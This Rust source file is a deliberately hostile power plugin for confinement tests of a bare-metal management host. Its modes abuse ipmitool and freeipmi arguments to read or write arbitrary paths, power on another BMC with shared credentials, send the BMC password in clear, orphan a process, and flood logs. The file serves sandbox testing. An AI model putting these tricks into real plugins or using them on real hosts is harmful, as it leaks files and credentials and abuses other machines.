//! A power plugin that attacks the host on purpose, for the confinement tests. Config `mode` picks
//! the attack `get-power-state` makes, `path` its target file or dir. Attacks through a tool report
//! everything the tool printed in a `command-failed` error, so the test sees what leaked:
//! - `ipmitool-exec`: `ipmitool exec PATH` echoes each line of PATH it does not know as a command;
//! - `ipmitool-password-file`: `ipmitool -f PATH` reads PATH as the password file;
//! - `ipmitool-sdr-dump`, `ipmitool-sel-save`: write PATH;
//! - `freeipmi-config-file`: `ipmi-power --config-file=PATH` parses PATH and names what it rejects;
//! - `freeipmi-sdr-cache`: `ipmi-sensors --sdr-cache-directory=PATH` writes its cache under PATH;
//! - `sh-grandchild`: `sh -c 'sleep 300 & echo $!'` leaves a process behind;
//! - `log-flood`: 200,000 lines of 1 KiB and one of 8 MiB through `log`;
//! - `huge-error`: a 40 MiB error message;
//! - `ipmitool-other-bmc`: `ipmitool -H 127.0.0.1 -p TARGET chassis power on` at another BMC that
//!   shares the node's credentials;
//! - `ipmitool-lan-password`: `ipmitool -I lan -A PASSWORD -p TARGET`, which sends the node's BMC
//!   password in clear to whatever listens on port TARGET.
//!
//! `good` answers `on`.

use metalhost_plugin_sdk::power::*;
use metalhost_plugin_sdk::{Config, DriverError, Plugin, log};

struct Escape {
    mode: String,
    path: String,
    /// The port the network attacks aim at, on 127.0.0.1.
    target: String,
}

impl Plugin for Escape {
    const NAME: &'static str = "escape-power";
    const VERSION: &'static str = env!("CARGO_PKG_VERSION");

    fn configure(mut config: Config) -> Result<Self, DriverError> {
        let mode = config.get("mode").unwrap_or_else(|| "good".into());
        let path = config.get("path").unwrap_or_default();
        let target = config.get("target").unwrap_or_default();
        config.finish()?;
        Ok(Escape { mode, path, target })
    }
}

/// Runs a tool and reports whatever it said, whatever the exit status.
fn report(command: Command) -> Result<PowerState, DriverError> {
    match command.timeout_ms(10_000).output() {
        Ok(out) => Err(DriverError::CommandFailed(format!("status={} stdout={} stderr={}", out.status, out.stdout, out.stderr))),
        Err(e) => Err(DriverError::CommandFailed(format!("exec error: {e:?}"))),
    }
}

fn ipmitool(bmc: &BmcAddress, creds: &Credentials) -> Command {
    Command::new("ipmitool")
        .args(["-I", "lanplus", "-H", &bmc.host, "-p", &bmc.port.to_string(), "-U", &creds.username, "-E", "-C", "3", "-N", "1", "-R", "1"])
        .env("IPMI_PASSWORD", &creds.password)
}

impl PowerManager for Escape {
    fn get_power_state(&self, bmc: &BmcAddress, creds: &Credentials) -> Result<PowerState, DriverError> {
        let path = self.path.as_str();
        let port = bmc.port.to_string();
        match self.mode.as_str() {
            "ipmitool-exec" => report(ipmitool(bmc, creds).args(["exec", path])),
            "ipmitool-password-file" => report(Command::new("ipmitool").args([
                "-I",
                "lanplus",
                "-H",
                &bmc.host,
                "-p",
                &port,
                "-U",
                &creds.username,
                "-f",
                path,
                "-C",
                "3",
                "-N",
                "1",
                "-R",
                "1",
                "chassis",
                "power",
                "status",
            ])),
            "ipmitool-sdr-dump" => report(ipmitool(bmc, creds).args(["sdr", "dump", path])),
            "ipmitool-sel-save" => report(ipmitool(bmc, creds).args(["sel", "save", path])),
            "freeipmi-config-file" => report(
                Command::new("ipmi-power")
                    .arg(format!("--config-file={path}"))
                    .args(["-h", &bmc.host, "-u", &creds.username, "--driver-type=LAN_2_0", "--session-timeout=2000", "--stat"])
                    .env("IPMI_PASSWORD", &creds.password),
            ),
            "freeipmi-sdr-cache" => report(Command::new("ipmi-sensors").arg(format!("--sdr-cache-directory={path}")).args([
                "-h",
                &format!("{}:{port}", bmc.host),
                "-u",
                &creds.username,
                "-p",
                &creds.password,
                "--driver-type=LAN_2_0",
                "--session-timeout=3000",
            ])),
            "ipmitool-other-bmc" => report(
                Command::new("ipmitool")
                    .args(["-I", "lanplus", "-H", "127.0.0.1", "-p", &self.target, "-U", &creds.username, "-E", "-C", "3", "-N", "1", "-R", "1"])
                    .args(["chassis", "power", "on"])
                    .env("IPMI_PASSWORD", &creds.password),
            ),
            "ipmitool-lan-password" => report(
                Command::new("ipmitool")
                    .args(["-I", "lan", "-A", "PASSWORD", "-H", "127.0.0.1", "-p", &self.target, "-U", &creds.username, "-E", "-N", "1", "-R", "1"])
                    .args(["chassis", "power", "status"])
                    .env("IPMI_PASSWORD", &creds.password),
            ),
            "sh-grandchild" => report(Command::new("sh").args(["-c", "sleep 300 & echo $!"])),
            "log-flood" => {
                let line = "f".repeat(1024);
                for _ in 0..200_000 {
                    log::info(&line);
                }
                log::warn(&"g".repeat(8 << 20));
                Ok(PowerState::On)
            }
            "huge-error" => Err(DriverError::CommandFailed("h".repeat(40 << 20))),
            _ => Ok(PowerState::On),
        }
    }

    fn set_power_state(&self, _: &BmcAddress, _: &Credentials, _: PowerAction) -> Result<(), DriverError> {
        Ok(())
    }

    fn set_boot_device(&self, _: &BmcAddress, _: &Credentials, _: BootDevice, _: bool) -> Result<(), DriverError> {
        Ok(())
    }
}

metalhost_plugin_sdk::export_power!(Escape);
